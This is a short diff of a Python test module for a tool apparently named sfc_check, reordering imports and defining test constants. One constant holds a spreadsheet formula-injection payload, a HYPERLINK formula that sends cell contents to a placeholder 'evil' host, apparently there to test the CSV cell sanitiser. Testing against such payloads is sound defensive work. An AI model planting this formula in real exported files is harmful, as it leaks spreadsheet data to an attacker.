@@ -9,11 +9,10 @@ import xml.etree.ElementTree as ET
 from pathlib import Path
 
 import pytest
+from conftest import SAMPLES, pairs, write
 
 from sfc_check import output as output_module
 from sfc_check.report.csv_report import safe_cell
-
-from conftest import SAMPLES, pairs, write
 
 AS_OF = ("--as-of", "2026-06-30")
 HOSTILE = '=HYPERLINK("http://evil/?x="&A1,"click")'
